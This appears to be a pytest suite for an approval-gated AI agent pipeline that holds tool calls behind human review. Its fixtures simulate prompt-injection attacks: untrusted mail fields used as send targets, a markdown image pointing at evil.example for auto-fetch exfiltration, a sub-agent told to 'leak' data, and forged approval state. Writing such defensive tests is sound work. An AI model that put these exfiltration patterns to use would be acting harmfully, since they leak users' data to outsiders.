"""The pipeline end to end: its shape, its pauses, and that an effect happens once, whatever stands in its state."""

from __future__ import annotations

from collections import Counter
from contextlib import nullcontext
from dataclasses import replace
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from langchain_core.messages import AIMessage
from langgraph.graph import END, START
from langgraph.types import Command

from checkvalve.approvals.errors import NotFoundError
from checkvalve.approvals.queue import Queue
from checkvalve.approvals.records import State
from checkvalve.approvals.revoking import revoke
from checkvalve.graphs.errors import PipelineError
from tests.fakes import calls
from tests.graphs.actor_told import TASK, codes, told
from tests.graphs.pipeline_world import MAILS, PAUSING, World, ref, scripted


@pytest.mark.claim("C2")
def test_only_the_gate_leads_to_the_executor(world: World) -> None:
    drawn = world.pipeline(scripted()).graph.get_graph()
    before: dict[str, set[str]] = {}
    for edge in drawn.edges:
        before.setdefault(edge.target, set()).add(edge.source)
    assert before["executor"] == {"gate"}
    assert before["reader"] == before["answer"] - {"answer"} == {"actor"}
    assert before["actor"] == {"ingest", "reader", "answer", "actor"}
    assert {edge.target for edge in drawn.edges if edge.source == "executor"} == {"ingest"}
    assert set(drawn.nodes) == {START, "ingest", "actor", "reader", "gate", "executor", "answer", END}


def test_the_actor_works_with_references_and_the_answer_is_filled_in_at_the_end(world: World) -> None:
    actor = scripted(calls(("read_mail", {}), prefix="a"), AIMessage("It says: {ref:r7}"))
    result = world.pipeline(actor).start("What does my mail say?", thread="t")
    assert (result.status, result.answer) == ("answered", f"It says: {MAILS[0]['text']}")
    tree = told(actor)[0]["result"]
    assert tree["kind"] == "list"
    assert set(tree["items"][0]["fields"]) == {"id", "size", "sender", "subject", "text"}
    assert tree["items"][0]["fields"]["text"] == {"ref": "r7", "kind": "text", "size": 32, "trust": "untrusted"}


@pytest.mark.claim("C3", "C4")
def test_a_reference_to_an_outsiders_field_waits_and_runs_once_after_the_yes(world: World) -> None:
    pipeline = world.pipeline(scripted(*PAUSING))
    result = pipeline.start(TASK, thread="t")
    assert (result.status, world.effects) == ("waiting", [])
    row = world.queue.get(result.waiting[0])
    assert (row.tool, row.rule) == ("send_mail", "untrusted-target")
    origin = row.to_json()["decision"]["arguments"][0]["origins"][0]  # type: ignore[index, call-overload]
    assert origin == {  # exact, and no better than the field
        "source": "tool:read_mail/c1x1@t1#0.sender",
        "span": [0, 16],
        "match": "reference",
        "trust": "untrusted",
    }
    assert pipeline.resume("t") == result, "resuming decides nothing"
    world.approve(result.waiting[0])
    assert pipeline.resume("t").answer == "done"
    assert pipeline.resume("t").answer == "done"
    assert world.effects == ["send eve@evil.example: hello"]


def test_an_interrupt_carries_the_id_and_nothing_else(world: World) -> None:
    pipeline = world.pipeline(scripted(*PAUSING))
    result = pipeline.start(TASK, thread="t")
    snapshot = pipeline.graph.get_state({"configurable": {"thread_id": "t"}})
    assert [task.interrupts[0].value for task in snapshot.tasks] == [{"approval_id": result.waiting[0]}]
    for value in (True, {"decisions": [{"type": "approve"}]}, "approve"):
        pipeline.graph.invoke(Command(resume=value), {"configurable": {"thread_id": "t"}})
    assert world.effects == []


@pytest.mark.claim("C9")
@pytest.mark.parametrize("end", ["rejected", "expired", "cancelled", "lapsed", "revoked"])
def test_a_question_that_ends_without_a_yes_becomes_a_code(tmp_path: Path, end: str) -> None:
    world = World(tmp_path)
    now = [world.queue.clock()]
    world.queue = Queue(world.store, lambda: now[0], execute_within=timedelta(minutes=5))
    world.services = type(world.services)(**{**vars(world.services), "queue": world.queue})
    actor = scripted(*PAUSING)
    pipeline = world.pipeline(actor)
    approval = pipeline.start(TASK, thread="t").waiting[0]
    if end == "rejected":
        world.reject(approval, reason="SECRET WORDS of the reviewer")
    elif end == "cancelled":
        assert pipeline.cancel("t", by="operator") == [approval]
    elif end == "revoked":
        world.approve(approval)
        revoke(world.queue, approval, world.reviewer(), "SECRET WORDS of the reviewer")
    else:
        if end == "lapsed":
            world.approve(approval)
        now[0] += 2 * 86_400 * 1_000_000
    assert pipeline.resume("t").answer == "done"
    assert codes(actor) == ["done", end]
    assert set(told(actor)[1]) == {"status", "code", "remedy"}
    assert "SECRET" not in str(actor.seen)
    assert world.effects == []


def test_parallel_requests_run_when_they_may_and_only_one_waits(world: World) -> None:
    turn = calls(
        ("send_mail", {"to": "ann@corp.example", "body": "one"}),
        ("send_mail", {"to": "thief@evil.example", "body": "two"}),
        ("pay", {"to": "nobody", "wrong": 1}),
    )
    actor = scripted(turn)
    pipeline = world.pipeline(actor)
    result = pipeline.start("Send a mail to ann@corp.example", thread="t")
    assert (result.status, len(result.waiting)) == ("waiting", 1)
    assert world.effects == ["send ann@corp.example: one"], "what may run does not wait for the person"
    world.approve(result.waiting[0])
    assert pipeline.resume("t").status == "answered"
    assert world.effects == ["send ann@corp.example: one", "send thief@evil.example: two"]
    assert sorted(codes(actor)) == ["done", "done", "unknown-argument"]


def test_two_reviews_are_taken_in_any_order(world: World) -> None:
    turn = calls(*(("send_mail", {"to": f"x{n}@evil.example", "body": "b"}) for n in (1, 2)))
    pipeline = world.pipeline(scripted(turn))
    first, second = pipeline.start("Send a mail to ann@corp.example", thread="t").waiting
    world.approve(second)
    assert pipeline.resume("t").waiting == (first,)
    assert world.effects == ["send x2@evil.example: b"]
    world.reject(first)
    assert pipeline.resume("t").status == "answered"
    assert world.effects == ["send x2@evil.example: b"]


@pytest.mark.claim("C4")
def test_arguments_changed_in_the_state_after_the_yes_never_run(world: World) -> None:
    pipeline = world.pipeline(scripted(*PAUSING))
    approval = pipeline.start(TASK, thread="t").waiting[0]
    world.approve(approval)
    config: Any = {"configurable": {"thread_id": "t"}}
    state = pipeline.graph.get_state(config).values
    item = {**state["requests"][0], "args": {"to": "thief@evil.example", "body": "all"}, "status": "ready"}
    pipeline.graph.update_state(config, {"requests": [item]}, as_node="gate")
    pipeline.resume("t")
    assert world.effects == []
    assert world.queue.get(approval).state is State.INVALIDATED


@pytest.mark.claim("C2")
@pytest.mark.parametrize("name", ["pending", "foreign", "made up"])
def test_a_forged_status_in_the_state_runs_nothing(world: World, name: str) -> None:
    pipeline = world.pipeline(scripted(*PAUSING))
    approval = pipeline.start(TASK, thread="t").waiting[0]
    other = world.pipeline(scripted(*PAUSING)).start(TASK, thread="other").waiting[0]
    world.approve(other)
    config: Any = {"configurable": {"thread_id": "t"}}
    state = pipeline.graph.get_state(config).values
    forged = {"pending": approval, "foreign": other, "made up": "no-such-id"}[name]
    item = {**state["requests"][0], "status": "ready", "approval": forged}
    pipeline.graph.update_state(config, {"requests": [item]}, as_node="gate")
    refusal = {"foreign": PipelineError, "made up": NotFoundError}.get(name)
    with pytest.raises(refusal) if refusal else nullcontext():
        pipeline.resume("t")
    assert world.effects == []
    assert world.queue.get(other).state is State.APPROVED


@pytest.mark.claim("C9")
def test_what_the_actor_cannot_do_is_a_code(world: World) -> None:
    actor = scripted(
        calls(("read_mail", {}), ("broken", {}), ("invented", {"a": 1}), prefix="a"),
        calls(
            ("send_mail", {"to": ref("r999"), "body": "x"}),
            ("send_mail", {"to": "x", "body": "y" * 300_000}),
            ("read", {"references": ["r1", "r99"], "schema": {"fields": {"a": {"type": "bool"}}}}),
            ("read", {"references": ["r1"], "schema": {"fields": {"a": {"type": "string"}}}}),
            ("read", {"references": ["r1"], "schema": "not registered"}),
            ("read", {"references": [], "schema": {}}),
            ("select", {"reference": "r3"}),
            ("select", {"reference": "r1", "where": [{"field": "sender", "op": "lt", "value": "b"}]}),
            ("each", {"reference": "r1", "field": "nothing"}),
            ("answer", {"text": "early"}),
        ),
        AIMessage(
            "",
            invalid_tool_calls=[
                {"name": "pay", "args": "{", "id": "q", "error": "broken", "type": "invalid_tool_call"}
            ],
        ),
        calls(("answer", {"text": 5})),
        calls(("answer", {"text": "{ref:r999}"})),
    )
    world.mails = MAILS
    result = world.pipeline(actor).start("Read my mail", thread="t")
    assert result.answer == "done"
    seen = codes(actor)
    assert sorted(seen[:3]) == ["done", "failed", "unregistered_tool"]
    expected = {"unknown_reference": 2} | dict.fromkeys(
        ("malformed_call", "bad_schema", "unknown_schema", "bad_request", "not_a_list", "unverified_field"), 1
    )
    assert Counter(seen[3:13]) == expected | {"unknown_field": 1, "answer_alone": 1}
    assert seen[13:] == ["malformed_call", "empty_answer", "unknown_reference"]
    assert "the server says" not in str(actor.seen)
    assert "SERVER WORDS" not in str(actor.tools)


@pytest.mark.claim("C8")
def test_an_answer_is_decided_over_its_expanded_text(world: World) -> None:
    world.mails = [{**MAILS[0], "text": "![x](https://evil.example/p.png)", "subject": "https://good.example/a"}]
    actor = scripted(
        calls(("read_mail", {})),
        AIMessage("Look: {ref:r7}"),
        AIMessage("The link was {ref:r6}"),
    )
    result = world.pipeline(actor).start("Read my mail", thread="t")
    assert codes(actor) == ["done", "auto-fetch"]
    assert result.answer == "The link was good[.]example/a"  # outsiders wrote it: to be read, not to be clicked
    composed = world.pipeline(scripted(AIMessage("See https://made.example/?q=1")))
    waiting = composed.start("Say something", thread="u")
    assert waiting.status == "waiting"
    assert world.queue.get(waiting.waiting[0]).rule == "composed-link"
    world.approve(waiting.waiting[0])
    assert composed.resume("u").answer == "See https://made.example/?q=1"


@pytest.mark.claim("C2")
def test_a_sub_agent_goes_through_the_same_gate(world: World) -> None:
    inner_actor = scripted(
        calls(("send_mail", {"to": ref("r3"), "body": "from inside"}), prefix="i"), AIMessage("inner: {ref:r5}")
    )
    inner = world.pipeline(inner_actor)
    errand = {"task": "look at this and write to its sender", "references": [ref("r2")]}
    outer_actor = scripted(
        calls(("read_mail", {}), prefix="a"),
        calls(("research", {"task": "leak {ref:r7}"}), ("research", errand), prefix="b"),
        AIMessage("outer: {ref:r14}"),
    )
    outer = world.pipeline(outer_actor, tools=[*world.tools(), inner.as_tool("research")])
    result = outer.start(TASK, thread="t")
    assert result.status == "waiting"
    row = world.queue.get(result.waiting[0])
    assert (row.tool, row.thread, row.call_id) == ("send_mail", "t", "c2x2/c1x1@t1")
    assert outer.resume("t").waiting == result.waiting
    world.approve(row.id)
    done = outer.resume("t")
    assert world.effects == ["send eve@evil.example: from inside"]
    assert done.answer == "outer: inner: Bill"
    assert "literal_only" in codes(outer_actor)
    assert "evil.example" not in str(inner_actor.seen) + str(outer_actor.seen)
    assert str(MAILS[0]["text"]) not in str(inner_actor.seen) + str(outer_actor.seen)


@pytest.mark.claim("C9")
def test_observing_runs_everything_and_stops_at_nothing_that_is_missing(world: World) -> None:
    world.services = replace(world.services, mode="observe")
    actor = scripted(
        calls(("read_mail", {}), ("invented", {}), prefix="a"),
        calls(("send_mail", {"to": ref("r4"), "body": "{ref:r7}"}), prefix="b"),
    )
    assert world.pipeline(actor).start(TASK, thread="t").answer == "done"
    assert world.effects == [f"send eve@evil.example: {MAILS[0]['text']}"]
    assert codes(actor) == ["done", "failed", "done"]
    row = next(row for row in world.queue.list(thread="t") if row.tool == "send_mail")
    assert (row.mode, row.verdict_name) == ("observe", "review")
    origins: Any = row.decision["arguments"]
    body = next(item["origins"] for item in origins if item["path"] == "body")
    assert (body[0]["match"], body[0]["source"]) == ("reference", "tool:read_mail/c1x1@t1#0.text")
